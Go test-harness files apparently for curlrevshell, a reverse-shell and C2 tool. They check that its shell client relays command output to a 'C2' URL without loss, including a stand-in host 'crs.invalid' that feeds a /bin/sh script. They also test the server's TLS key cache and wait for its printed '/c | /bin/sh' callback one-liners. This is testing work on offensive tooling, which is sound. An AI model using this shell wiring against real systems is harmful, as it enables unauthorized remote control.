func c14GoSeam(r *ev.Result) {
	n := 0
	for _, h2 := range []bool{true, false} {
		for _, size := range []int{200_000, 3 << 20} {
			proto := map[bool]string{true: "HTTP/2", false: "HTTP/1.1"}[h2]
			v := func(sig, what string) {
				r.Violate(ev.Violation{Signature: "go/" + sig + "/" + proto, Kind: "c14go", Replay: map[string]any{"protocol": proto, "bytes": size},
					What: fmt.Sprintf("simpleshell.Go over %s, command writing %d bytes and exiting with its input still open, server reading 32 KiB per millisecond and sending an input byte every 20 ms: %s", proto, size, what)})
			}
			var (
				mu       sync.Mutex
				received int
				endErr   error
				ended    = make(chan struct{})
			)
			srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
				rc := http.NewResponseController(w)
				rc.EnableFullDuplex()
				w.WriteHeader(200)
				rc.Flush()
				stopInput := make(chan struct{})
				var iwg sync.WaitGroup
				iwg.Add(1)
				go func() { /* The operator keeps typing. */
					defer iwg.Done()
					for {
						select {
						case <-stopInput:
							return
						case <-time.After(20 * time.Millisecond):
							if _, err := w.Write([]byte("\n")); nil != err {
								return
							}
							rc.Flush()
						}
					}
				}()
				buf := make([]byte, 32<<10)
				for {
					k, err := req.Body.Read(buf)
					mu.Lock()
					received += k
					mu.Unlock()
					if nil != err {
						mu.Lock()
						endErr = err
						mu.Unlock()
						break
					}
					time.Sleep(time.Millisecond)
				}
				close(stopInput)
				iwg.Wait()
				close(ended)
			}))
			srv.EnableHTTP2 = h2
			srv.StartTLS()
			pin := hworld.PinOf(srv.Certificate())
			sh, err := simpleshell.NewCmdShell(exec.Command("head", "-c", fmt.Sprint(size), "/dev/zero"))
			if nil != err {
				ev.Broken("%s", err)
			}
			ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
			goErr := simpleshell.Go(ctx, simpleshell.ConnConfig{C2: srv.URL + "/io", Fingerprint: pin}, sh)
			select {
			case <-ended:
			case <-time.After(60 * time.Second):
				v("upload-never-ends", "60 s after Go returned the server is still waiting for the end of the output")
			}
			cancel()
			mu.Lock()
			got, eerr := received, endErr
			mu.Unlock()
			switch {
			case got != size:
				v("bytes-lost", fmt.Sprintf("the server received %d bytes (then %v); Go returned %v", got, eerr, goErr))
			case io.EOF != eerr:
				v("unclean-end", fmt.Sprintf("all bytes arrived but the output stream ended with %v instead of a clean end; Go returned %v", eerr, goErr))
			case nil != goErr:
				v("success-reported-as-error", fmt.Sprintf("the command exited 0, everything arrived, Go returned %v", goErr))
			}
			srv.CloseClientConnections()
			srv.Close()
			n++
		}
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Traces += n
	r.Set("go_end_to_end_sessions", n)
	c14GoEndOfInput(r)
}

type c14RT func(*http.Request) (*http.Response, error)

func (f c14RT) RoundTrip(req *http.Request) (*http.Response, error) { return f(req) }

// c14GoEndOfInput: simpleshell.Go over a transport of the harness (no pin, so
// Go uses http.DefaultTransport) whose response body - the command's input -
// ends while the command still has output to write.  The input is a script
// for /bin/sh, so lost input shows as lost output; it arrives in every shape a
// reader may use (the end reported separately, together with the last bytes, a
// byte at a time).  Everything written after the end of input must still
// arrive before the output stream ends, and Go must report success.
func c14GoEndOfInput(r *ev.Result) {
	const script = "echo first; sleep 0.2; echo last; echo err >&2; sleep 0.1; echo done\n"
	const want = "first\nlast\nerr\ndone\n"
	const wantOut = "first\nlast\ndone\n"
	shapes := []struct {
		name string
		mk   func() io.Reader
	}{
		{"eof-separately", func() io.Reader { return strings.NewReader(script) }},
		{"eof-with-last-bytes", func() io.Reader { return iotest.DataErrReader(strings.NewReader(script)) }},
		{"byte-at-a-time", func() io.Reader { return iotest.OneByteReader(strings.NewReader(script)) }},
		{"byte-at-a-time-eof-with-last", func() io.Reader { return iotest.DataErrReader(iotest.OneByteReader(strings.NewReader(script))) }},
		{"half-reads", func() io.Reader { return iotest.HalfReader(strings.NewReader(script)) }},
	}
	old := http.DefaultTransport
	defer func() { http.DefaultTransport = old }()
	n := 0
	for _, sh := range shapes {
		var (
			got bytes.Buffer
			wg  sync.WaitGroup
		)
		http.DefaultTransport = c14RT(func(req *http.Request) (*http.Response, error) {
			wg.Add(1)
			go func() { defer wg.Done(); io.Copy(&got, req.Body); req.Body.Close() }()
			return &http.Response{StatusCode: 200, Body: io.NopCloser(sh.mk()), Request: req}, nil
		})
		cs, err := simpleshell.NewCmdShell(exec.Command("/bin/sh"))
		if nil != err {
			ev.Broken("%s", err)
		}
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		goErr := simpleshell.Go(ctx, simpleshell.ConnConfig{C2: "http://crs.invalid/io"}, cs)
		wg.Wait()
		cancel()
		v := func(sig, what string) {
			r.Violate(ev.Violation{Signature: "go/" + sig + "/" + sh.name, Kind: "c14go-eoi", Replay: map[string]any{"shape": sh.name},
				What: fmt.Sprintf("simpleshell.Go with /bin/sh, the input stream carrying %q and then ending (%s) while the script still has output to write: %s", script, sh.name, what)})
		}
		/* The two descriptors are relayed independently: order is promised
		per stream only. */
		stdout := strings.Replace(got.String(), "err\n", "", 1)
		switch {
		case stdout != wantOut || len(got.String()) != len(want):
			v("output-lost-after-end-of-input", fmt.Sprintf("the output stream carried %q instead of %q (the line err anywhere); Go returned %v", got.String(), want, goErr))
		case nil != goErr:
			v("success-reported-as-error", fmt.Sprintf("everything arrived, Go returned %v", goErr))
		}
		n++
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Traces += n
	r.Set("go_end_of_input_sessions", n)
}
