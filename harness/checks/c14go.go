package checks

/*
 * C14 end to end: simpleshell.Go (the wiring around CmdShell: the request
 * body is the command's output, the response body its input) against an HTTPS
 * server of the harness that reads slowly and keeps sending input.  The
 * command writes a few MiB and exits while its input is still open; whatever
 * the client does when the command is gone, every byte it wrote must arrive,
 * followed by a clean end of the request body.
 */

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

func c14GoSeam(r *ev.Result) {
	n := 0
	for _, h2 := range []bool{true, false} {
		for _, size := range []int{200_000, 3 << 20} {
			proto := map[bool]string{true: "HTTP/2", false: "HTTP/1.1"}[h2]
			v := func(sig, what string) {
				r.Violate(ev.Violation{Signature: "go/" + sig + "/" + proto, Kind: "c14go", Replay: map[string]any{"protocol": proto, "bytes": size},
					What: fmt.Sprintf("simpleshell.Go over %s, command writing %d bytes and exiting with its input still open, server reading 32 KiB per millisecond and sending an input byte every 20 ms: %s", proto, size, what)})
			}
			var (
				mu       sync.Mutex
				received int
				endErr   error
				ended    = make(chan struct{})
			)
			srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
				rc := http.NewResponseController(w)
				rc.EnableFullDuplex()
				w.WriteHeader(200)
				rc.Flush()
				stopInput := make(chan struct{})
				var iwg sync.WaitGroup
				iwg.Add(1)
				go func() { /* The operator keeps typing. */
					defer iwg.Done()
					for {
						select {
						case <-stopInput:
							return
						case <-time.After(20 * time.Millisecond):
							if _, err := w.Write([]byte("\n")); nil != err {
								return
							}
							rc.Flush()
						}
					}
				}()
				buf := make([]byte, 32<<10)
				for {
					k, err := req.Body.Read(buf)
					mu.Lock()
					received += k
					mu.Unlock()
					if nil != err {
						mu.Lock()
						endErr = err
						mu.Unlock()
						break
					}
					time.Sleep(time.Millisecond)
				}
				close(stopInput)
				iwg.Wait()
				close(ended)
			}))
			srv.EnableHTTP2 = h2
			srv.StartTLS()
			pin := hworld.PinOf(srv.Certificate())
			sh, err := simpleshell.NewCmdShell(exec.Command("head", "-c", fmt.Sprint(size), "/dev/zero"))
			if nil != err {
				ev.Broken("%s", err)
			}
			ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
			goErr := simpleshell.Go(ctx, simpleshell.ConnConfig{C2: srv.URL + "/io", Fingerprint: pin}, sh)
			select {
			case <-ended:
			case <-time.After(60 * time.Second):
				v("upload-never-ends", "60 s after Go returned the server is still waiting for the end of the output")
			}
			cancel()
			mu.Lock()
			got, eerr := received, endErr
			mu.Unlock()
			switch {
			case got != size:
				v("bytes-lost", fmt.Sprintf("the server received %d bytes (then %v); Go returned %v", got, eerr, goErr))
			case io.EOF != eerr:
				v("unclean-end", fmt.Sprintf("all bytes arrived but the output stream ended with %v instead of a clean end; Go returned %v", eerr, goErr))
			case nil != goErr:
				v("success-reported-as-error", fmt.Sprintf("the command exited 0, everything arrived, Go returned %v", goErr))
			}
			srv.CloseClientConnections()
			srv.Close()
			n++
		}
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Traces += n
	r.Set("go_end_to_end_sessions", n)
}
