package checks

/*
 * A free-running complement to C06's exploration for what no search over a
 * handful of requests can reach: whatever tells the halves of one /io request
 * from those of another must do so for *every* other request, not for most.
 * One request's input half is attached and its output half is held back at the
 * admission point (verif hook); then a long series of other /io requests
 * arrives.  None of their halves may be admitted.  (A marker with few bits, a
 * counter that wraps, a pointer that is reused would let one through sooner
 * or later.)  Samples; it can only ever add findings.
 */

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

type c06SprayKey struct{}

func c06Spray(r *ev.Result, calls int) {
	ich := make(chan string, 4)
	och := make(chan opshell.CLine, 64)
	b, err := hworld.NewBroker(ich, och)
	if nil != err {
		ev.Broken("%s", err)
	}
	go func() { /* The terminal keeps reading. */
		for range och {
		}
	}()
	ctx, cancel := context.WithCancel(context.Background())
	var wg sync.WaitGroup
	wg.Add(1)
	go func() { defer wg.Done(); b.Do(ctx) }()
	held, release := make(chan struct{}), make(chan struct{})
	var once sync.Once
	iobroker.VerifHook = func(hctx context.Context, point, dir, key string) {
		if "admit" == point && "output" == dir && nil != hctx.Value(c06SprayKey{}) {
			once.Do(func() { close(held) })
			<-release
		}
	}
	defer func() { iobroker.VerifHook = nil }()
	/* Request A. */
	var (
		mu    sync.Mutex
		aDirs []string
	)
	actx := context.WithValue(ctx, c06SprayKey{}, true)
	apr, apw := io.Pipe()
	aDone := make(chan struct{})
	go func() {
		defer close(aDone)
		b.ConnectInOut(actx, slog.New(c01ConnLog{mu: &mu, dirs: &aDirs}), "client-a", io.Discard, apr)
	}()
	select {
	case <-held:
	case <-time.After(hworld.Watchdog):
		ev.Broken("c06 spray: the first request's output half never reached the admission point")
	}
	for deadline := time.Now().Add(hworld.Watchdog); ; time.Sleep(100 * time.Microsecond) {
		mu.Lock()
		n := len(aDirs)
		mu.Unlock()
		if n >= 1 {
			break
		}
		if time.Now().After(deadline) {
			ev.Broken("c06 spray: the first request's input half never attached")
		}
	}
	/* The others. */
	var bDirs []string
	sl := slog.New(c01ConnLog{mu: &mu, dirs: &bDirs})
	n := 0
	problem := ""
	for ; n < calls && "" == problem; n++ {
		bpr, bpw := io.Pipe()
		bctx, bcancel := context.WithCancel(ctx)
		done := make(chan struct{})
		go func() { defer close(done); b.ConnectInOut(bctx, sl, "client-b", io.Discard, bpr) }()
		select {
		case <-done:
		case <-time.After(hworld.Watchdog):
			problem = fmt.Sprintf("/io request number %d, made while another request's input half is attached, was not refused (its call is still running after %v)", n+1, hworld.Watchdog)
		}
		mu.Lock()
		if 0 != len(bDirs) && "" == problem {
			problem = fmt.Sprintf("the %s half of /io request number %d was admitted next to the input half of another request", bDirs[0], n+1)
		}
		mu.Unlock()
		bcancel()
		bpw.Close()
		select {
		case <-done:
		case <-time.After(hworld.Watchdog):
			if "" == problem {
				problem = fmt.Sprintf("/io request number %d has not ended %v after its context was cancelled", n+1, hworld.Watchdog)
			}
		}
	}
	close(release)
	cancel()
	apw.Close()
	select {
	case <-aDone:
		wg.Wait()
		close(och)
	case <-time.After(hworld.Watchdog):
		if "" == problem {
			problem = "the first request has not ended after its context was cancelled and its stream closed"
		}
	}
	r.Add(n)
	r.Traces += n
	r.Set("io_requests_next_to_a_half_attached_one", n)
	if "" != problem {
		r.Violate(ev.Violation{Signature: "free-running/foreign-half-admitted", Kind: "c06spray", Replay: map[string]any{"calls": n},
			What: "real broker, one /io request with its input half attached and its output half held back at the admission point: " + problem})
	}
}
