package checks

/*
 * Two seams above GetCertificate, because the cache is used through them:
 *
 *  - sstls.Listen: every history of <=3 starts over {listens fine, address
 *    already in use, address that cannot be parsed} on one cache path, from a
 *    missing and from an existing cache: a start that fails after (or before)
 *    the certificate step leaves an existing cache alone, and every start
 *    that succeeds presents the key the cache holds.
 *
 *  - hsrv.New (what the program calls): damaged caches must make it fail, or
 *    serve the key the cache held; never come up with another key.
 */

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/lib/sstls"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
	"github.com/magisterquis/curlrevshell/verifx/rcall"
	"github.com/magisterquis/curlrevshell/verifx/vos"
)

func c08ListenPin(l sstls.Listener) (string, error) {
	type res struct {
		pin string
		err error
	}
	ch := make(chan res, 1)
	go func() {
		c, err := tls.Dial("tcp", l.Addr().String(), &tls.Config{InsecureSkipVerify: true})
		if nil != err {
			ch <- res{"", err}
			return
		}
		defer c.Close()
		ch <- res{c08KeyID(c.ConnectionState().PeerCertificates[0]), nil}
	}()
	sc, err := l.Accept()
	if nil != err {
		return "", err
	}
	defer sc.Close()
	if tc, ok := sc.(*tls.Conn); ok {
		tc.Handshake()
	}
	x := <-ch
	return x.pin, x.err
}

func c08ListenHistories(r *ev.Result, base string) {
	/* An address that is taken for the whole check. */
	busy, err := net.Listen("tcp", "127.0.0.1:0")
	if nil != err {
		ev.Broken("%s", err)
	}
	defer busy.Close()
	ops := []string{"listen", "listen-busy", "listen-bad-address"}
	var hists [][]string
	var rec func(cur []string)
	rec = func(cur []string) {
		if 0 != len(cur) {
			hists = append(hists, append([]string{}, cur...))
		}
		if 3 == len(cur) {
			return
		}
		for _, o := range ops {
			rec(append(cur, o))
		}
	}
	rec(nil)
	n := 0
	for _, existing := range []bool{false, true} {
		for hi, h := range hists {
			dir := filepath.Join(base, fmt.Sprintf("listen-%v-%d", existing, hi))
			cache := filepath.Join(dir, "sub", "cert.txtar")
			v := func(sig, what string) {
				r.Violate(ev.Violation{Signature: "listen/" + sig, Kind: "c08listen", Replay: map[string]any{"history": h, "cache_exists_before": existing},
					What: fmt.Sprintf("starts %v on one cache path (cache present beforehand: %v): %s", h, existing, what)})
			}
			vos.Reset()
			modelPin := ""
			var fileWas []byte
			if existing {
				cert, err, _ := c08Get(cache, nil, nil)
				if nil != err {
					ev.Broken("%s", err)
				}
				modelPin = c08KeyID(cert.Leaf)
				fileWas, _ = os.ReadFile(cache)
			}
			for si, op := range h {
				addr := "127.0.0.1:0"
				switch op {
				case "listen-busy":
					addr = busy.Addr().String()
				case "listen-bad-address":
					addr = "127.0.0.1:http:s"
				}
				vos.Reset()
				lres := rcall.Call(sstls.Listen, "tcp", addr, "", time.Duration(0), cache)
				l, _ := lres[0].(sstls.Listener)
				err := rcall.Err(lres)
				where := fmt.Sprintf("start %d (%s)", si+1, op)
				if nil == err {
					if "listen" != op {
						l.Close()
						v("bad-address-accepted", where+": no error")
						break
					}
					pin, perr := c08ListenPin(l)
					l.Close()
					if nil != perr {
						v("unusable-key", fmt.Sprintf("%s: handshake failed: %v", where, perr))
						break
					}
					if "" != modelPin && pin != modelPin {
						v("identity-changed", fmt.Sprintf("%s presents key %q, the cache held %q", where, pin, modelPin))
						break
					}
					modelPin = pin
				} else if "listen" == op {
					v("start-failed", fmt.Sprintf("%s: %v", where, err))
					break
				}
				now, rerr := os.ReadFile(cache)
				switch {
				case nil != fileWas && (nil != rerr || !bytes.Equal(now, fileWas)):
					v("existing-file-touched", fmt.Sprintf("%s: the cache file that existed is %s afterwards", where, map[bool]string{true: "gone", false: "changed"}[nil != rerr]))
				case nil == fileWas && nil == rerr:
					/* Created by this start: from now on it is the identity. */
					fileWas = now
					if fp := c08PinFromFile(now); "" != fp {
						if "" != modelPin && fp != modelPin {
							v("identity-changed", fmt.Sprintf("%s: the cache now holds %q, the listener presented %q", where, fp, modelPin))
						}
						modelPin = fp
					}
				}
				n++
			}
			os.RemoveAll(dir)
		}
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Set("listen_level_history_steps", n)
}

// c08ServerSeam starts the HTTPS server the program's way on damaged caches.
func c08ServerSeam(r *ev.Result, base string, good []byte, goodPin string) {
	type dmg struct {
		name string
		data []byte
	}
	var ds []dmg
	for _, k := range []int{0, 1, 10, len(good) / 4, len(good) / 2, len(good) * 3 / 4, len(good) - 40, len(good) - 2, len(good) - 1} {
		if k >= 0 && k < len(good) {
			ds = append(ds, dmg{fmt.Sprintf("cut-after-%d-bytes", k), good[:k]})
		}
	}
	for _, marker := range []string{"-- cert", "-- key", "BEGIN CERTIFICATE", "BEGIN EC PRIVATE KEY", "BEGIN PRIVATE KEY"} {
		if i := bytes.Index(good, []byte(marker)); i >= 0 {
			d := append([]byte{}, good...)
			d[i+3] ^= 0x01
			ds = append(ds, dmg{"flip-in-" + marker, d})
			/* and a character inside the block that follows */
			if j := i + len(marker) + 40; j < len(d) {
				e := append([]byte{}, good...)
				e[j] = '!'
				ds = append(ds, dmg{"garbage-after-" + marker, e})
			}
		}
	}
	n := 0
	for i, d := range ds {
		dir := filepath.Join(base, fmt.Sprintf("srv-%d", i))
		os.MkdirAll(dir, 0o700)
		cache := filepath.Join(dir, "cert.txtar")
		os.WriteFile(cache, d.data, 0o600)
		v := func(sig, what string) {
			r.Violate(ev.Violation{Signature: "server/" + sig, Kind: "c08server", Replay: map[string]string{"damage": d.name},
				What: fmt.Sprintf("HTTPS server started the program's way (hsrv.New) on a cache damaged by %s: %s", d.name, what)})
		}
		w, err := hworld.Start(hworld.Config{CertFile: cache})
		if nil == err {
			pin, perr := c05Wire(w, "")
			w.Stop()
			switch {
			case nil != perr:
				v("unusable-key", "started, handshake fails: "+perr.Error())
			case pin != goodPin:
				v("different-key", fmt.Sprintf("the server came up and presents key %q; the cache held %q", pin, goodPin))
			}
		}
		if now, rerr := os.ReadFile(cache); nil != rerr || !bytes.Equal(now, d.data) {
			v("file-rewritten", "the damaged cache file was modified or removed")
		}
		os.RemoveAll(dir)
		n++
	}
	/* And an intact cache over restarts of the server as the program builds
	it, with the listen and callback addresses it may be given: one key,
	the file left alone. */
	for i, cfg := range []hworld.Config{
		{Listen: "127.0.0.1:0"},
		{Listen: "127.0.0.1:0", CbAddrs: []string{"192.0.2.7", "cb.example"}},
		{Listen: "[::1]:0", CbAddrs: []string{"cb.example:8443"}},
	} {
		dir := filepath.Join(base, fmt.Sprintf("srv-good-%d", i))
		os.MkdirAll(dir, 0o700)
		cache := filepath.Join(dir, "cert.txtar")
		os.WriteFile(cache, good, 0o600)
		cfg.CertFile = cache
		for k := 0; k < 3; k++ {
			if 2 == k {
				cfg.CbAddrs = append(cfg.CbAddrs, "one-more.example") /* The operator adds a name. */
			}
			w, err := hworld.Start(cfg)
			if nil != err {
				if 0 == k && strings.Contains(cfg.Listen, "::1") {
					break /* No IPv6 loopback here. */
				}
				r.Violate(ev.Violation{Signature: "server/good-cache-refused", Kind: "c08server", Replay: map[string]any{"config": i, "start": k + 1}, What: fmt.Sprintf("server start %d on an intact cache (listen %s, callback addresses %v) failed: %v", k+1, cfg.Listen, cfg.CbAddrs, err)})
				break
			}
			pin, perr := c05Wire(w, "")
			w.Stop()
			now, _ := os.ReadFile(cache)
			switch {
			case nil != perr:
				r.Violate(ev.Violation{Signature: "server/unusable-key", Kind: "c08server", Replay: map[string]any{"config": i, "start": k + 1}, What: fmt.Sprintf("server start %d on an intact cache: handshake fails: %v", k+1, perr)})
			case pin != goodPin:
				r.Violate(ev.Violation{Signature: "server/identity-changed", Kind: "c08server", Replay: map[string]any{"config": i, "start": k + 1}, What: fmt.Sprintf("server start %d on an intact cache (listen %s, callback addresses %v) presents key %q, the cache held %q", k+1, cfg.Listen, cfg.CbAddrs, pin, goodPin)})
			case !bytes.Equal(now, good):
				r.Violate(ev.Violation{Signature: "server/file-rewritten", Kind: "c08server", Replay: map[string]any{"config": i, "start": k + 1}, What: fmt.Sprintf("server start %d on an intact cache (listen %s, callback addresses %v) rewrote the cache file", k+1, cfg.Listen, cfg.CbAddrs)})
			}
			n++
		}
		os.RemoveAll(dir)
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Set("server_level_damaged_caches", n)
}

// c08WriteErrors: the cache cannot be written (the write fails after k bytes,
// "no space left on device"): whatever the run does about it, a later start
// on the same path must not silently present another key than a start that
// was reported as successful.
func c08WriteErrors(r *ev.Result, base string, log0 []vos.Op) {
	wi, n := -1, 0
	for i, op := range log0 {
		if "WriteFile" == op.Kind {
			wi, n = i, op.N
		}
	}
	if wi < 0 {
		r.Set("write_error_cases", "the write path has no WriteFile call any more: not applicable as built")
		return
	}
	cases := 0
	for _, k := range []int{0, 1, n / 3, n / 2, n - 1} {
		dir := filepath.Join(base, fmt.Sprintf("werr-%d", k))
		cache := filepath.Join(dir, "sub", "cert.txtar")
		v := func(sig, what string) {
			r.Violate(ev.Violation{Signature: "write-error/" + sig, Kind: "c08werr", Replay: map[string]int{"write_fails_after_bytes": k, "of": n},
				What: fmt.Sprintf("the write of a new cache file fails after %d of %d bytes (no space left on device): %s", k, n, what)})
		}
		cert1, err1, _ := c08Get(cache, &vos.CrashPlan{AtOp: wi, Bytes: k, Err: true}, nil)
		pins := []string{}
		if nil == err1 {
			p, herr := c08Serve(cert1)
			if nil != herr {
				v("unusable-key", "the start was reported as successful, its certificate cannot complete a handshake: "+herr.Error())
			}
			pins = append(pins, p)
		}
		for k2 := 0; k2 < 2; k2++ {
			cert, err, _ := c08Get(cache, nil, nil)
			if nil != err {
				continue
			}
			p, _ := c08Serve(cert)
			pins = append(pins, p)
		}
		for _, p := range pins[min(1, len(pins)):] {
			if p != pins[0] {
				v("identity-changed", fmt.Sprintf("successive starts on that cache path that were all reported as successful present different keys: %q (first start succeeded: %v)", pins, nil == err1))
				break
			}
		}
		os.RemoveAll(dir)
		cases++
	}
	r.Add(cases)
	r.AddDistinct(cases)
	r.Set("write_error_cases", cases)
}

// c08PathShapes: cache paths whose lexically cleaned form names another place
// than the one the kernel resolves (a ".." after a symbolic link), relative
// paths, doubled separators: three starts present one key, and the file is
// where the path as given leads.
func c08PathShapes(r *ev.Result, base string) {
	root := filepath.Join(base, "shapes")
	os.MkdirAll(filepath.Join(root, "real", "deep"), 0o700)
	os.Symlink(filepath.Join("real", "deep"), filepath.Join(root, "link"))
	/* Both places a "shared" directory could be meant to be exist already
	(creating missing directories for such a path is another matter: the
	program does that lexically and then fails to open the file, loudly). */
	os.MkdirAll(filepath.Join(root, "real", "shared"), 0o700)
	os.MkdirAll(filepath.Join(root, "shared"), 0o700)
	shapes := map[string]string{
		"dotdot-after-symlink": root + "/link/../shared/cert.txtar", /* kernel: real/shared; lexically: shapes/shared */
		"doubled-separators":   root + "//dd///cert.txtar",
		"dot-segments":         root + "/./ds/./cert.txtar",
		"trailing-dotdot":      root + "/td/x/../cert.txtar",
		"path-is-a-symlink":    root + "/cache-link", /* -> real/target.txtar, which does not exist at first */
	}
	os.Symlink(filepath.Join("real", "target.txtar"), filepath.Join(root, "cache-link"))
	/* Paths relative to the current directory (what -tls-certificate-cache
	cert.txtar gives, and the default when there is no home directory). */
	if cwd, err := os.Getwd(); nil == err && nil == os.Chdir(root) {
		defer os.Chdir(cwd)
		shapes["relative-plain"] = "rel-cert.txtar"
		shapes["relative-nested"] = "loot/tls/cert.txtar"
		shapes["relative-dot"] = "./reldot/cert.txtar"
		shapes["relative-dotdot"] = "real/../relup/cert.txtar"
	}
	n := 0
	for name, cache := range shapes {
		v := func(sig, what string) {
			r.Violate(ev.Violation{Signature: "path-shape/" + sig + "/" + name, Kind: "c08path", Replay: map[string]string{"cache_path_shape": name},
				What: fmt.Sprintf("cache path %q: %s", strings.TrimPrefix(cache, base), what)})
		}
		if "trailing-dotdot" == name {
			os.MkdirAll(filepath.Join(root, "td", "x"), 0o700)
		}
		var pins []string
		for k := 0; k < 3; k++ {
			cert, err, _ := c08Get(cache, nil, nil)
			if nil != err {
				v("start-failed", fmt.Sprintf("start %d: %v", k+1, err))
				break
			}
			p, _ := c08Serve(cert)
			pins = append(pins, p)
			if _, serr := os.Stat(cache); nil != serr {
				v("file-elsewhere", fmt.Sprintf("after start %d there is no cache file at the path as given (%v)", k+1, serr))
				break
			}
		}
		for _, p := range pins {
			if p != pins[0] {
				v("identity-changed", fmt.Sprintf("three starts present %q", pins))
				break
			}
		}
		n++
	}
	/* A cache path that is a link onto a volume which is away for one start
	(not mounted yet, a removable disk): that start fails, and the next one,
	with the volume back, presents the key it always had. */
	{
		vol, away := filepath.Join(root, "vol"), filepath.Join(root, "vol-away")
		os.MkdirAll(vol, 0o700)
		link := filepath.Join(root, "cache-on-volume")
		os.Symlink(filepath.Join("vol", "cert.txtar"), link)
		v := func(sig, what string) {
			r.Violate(ev.Violation{Signature: "path-shape/" + sig + "/link-onto-a-volume-that-is-away-once", Kind: "c08path", Replay: map[string]string{"cache_path_shape": "link-onto-a-volume-that-is-away-once"},
				What: "cache path is a symbolic link onto a volume; start, start with the volume away, start with it back: " + what})
		}
		if c1, err, _ := c08Get(link, nil, nil); nil != err {
			v("start-failed", fmt.Sprintf("first start: %v", err))
		} else {
			p1, _ := c08Serve(c1)
			os.Rename(vol, away)
			if c2, err, _ := c08Get(link, nil, nil); nil == err {
				/* Starting without its cache is not wrong in itself, but then
				it must not be another key that is *kept*. */
				_ = c2
			}
			os.Rename(away, vol)
			c3, err, _ := c08Get(link, nil, nil)
			if nil != err {
				v("start-failed", fmt.Sprintf("third start (volume back): %v", err))
			} else if p3, _ := c08Serve(c3); p3 != p1 {
				fi, lerr := os.Lstat(link)
				isLink := nil == lerr && 0 != fi.Mode()&os.ModeSymlink
				v("identity-changed", fmt.Sprintf("the third start presents %q, the first presented %q (the configured path is still a symbolic link: %v)", p3, p1, isLink))
			}
		}
		n++
	}
	os.RemoveAll(root)
	r.Add(n)
	r.AddDistinct(n)
	r.Set("cache_path_shapes", n)
}

// c08RealSharedDirs: the real program with its log and its certificate cache
// below the same directories, none of which exists yet.  It may refuse to
// start; if it starts, every directory it made on the way to the key is the
// owner's alone.
func c08RealSharedDirs(r *ev.Result, base string) {
	for _, shape := range []string{"same-directory", "log-one-level-up"} {
		root, _ := os.MkdirTemp(base, "shared-")
		op := filepath.Join(root, "op", "2024")
		logf := filepath.Join(op, "crs.json")
		if "log-one-level-up" == shape {
			logf = filepath.Join(root, "op", "crs.json")
		}
		cache := filepath.Join(op, "cert.txtar")
		p, _, err := startReal(root, "-listen-address", "127.0.0.1:0", "-log", logf, "-tls-certificate-cache", cache)
		r.Add(1)
		if nil == err {
			stopReal(p)
			p.Close()
			for d := filepath.Dir(cache); len(d) > len(root); d = filepath.Dir(d) {
				if fi, err := os.Stat(d); nil == err && 0 != fi.Mode().Perm()&0o077 {
					r.Violate(ev.Violation{Signature: "binary/key-directory-not-owner-only/" + shape, Kind: "c08path", Replay: map[string]string{"cache_path_shape": "log and cache share new directories: " + shape},
						What: fmt.Sprintf("real binary with -log %s -tls-certificate-cache %s (none of the directories existed): it started, and %s, on the way to the private key, has mode %v", strings.TrimPrefix(logf, root), strings.TrimPrefix(cache, root), strings.TrimPrefix(d, root), fi.Mode().Perm())})
					break
				}
			}
		}
		os.RemoveAll(root)
	}
}
