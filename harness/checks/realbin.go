package checks

/*
 * End-to-end seams on the real binary (pty): C05's fingerprints as printed on
 * the terminal, and C11's -log file.
 */

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
	"github.com/magisterquis/curlrevshell/verifx/ptyrun"
)

// startReal starts the real binary on a pty and waits for its listen notice.
func startReal(dir string, args ...string) (*ptyrun.Proc, string, error) {
	return startRealEnv(dir, nil, args...)
}

// startRealEnv is startReal with additions to the environment.
func startRealEnv(dir string, env []string, args ...string) (*ptyrun.Proc, string, error) {
	cmd := exec.Command(binPath("curlrevshell"), args...)
	cmd.Env = append(append(os.Environ(), "HOME="+dir, "CURLREVSHELL_LOG="), env...)
	cmd.Dir = dir
	p, err := ptyrun.Start(cmd)
	if nil != err {
		return nil, "", err
	}
	lre := regexp.MustCompile(`Listening on (\S+)`)
	started := false
	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); {
		if p.WaitFor(lre, 0, 200*time.Millisecond) >= 0 {
			started = true
			break
		}
		if p.Done() { /* It has exited: it will not start listening. */
			started = p.WaitFor(lre, 0, 100*time.Millisecond) >= 0
			break
		}
	}
	if !started {
		out := p.Output()
		p.Close()
		return nil, "", fmt.Errorf("the binary did not start: %q", trunc300(out))
	}
	addr := lre.FindStringSubmatch(p.Output())[1]
	/* The one-liners follow the listen notice. */
	p.WaitFor(regexp.MustCompile(`/c \| /bin/sh`), 0, 30*time.Second)
	return p, addr, nil
}

func stopReal(p *ptyrun.Proc) int {
	p.Send("\x04")
	st := p.Wait(30 * time.Second)
	p.Close()
	return st
}

// c05RealBinary: flags of the real binary -> what the terminal advertises ==
// what the wire shows, across a restart on the same cache.
func c05RealBinary(r *ev.Result, base string) {
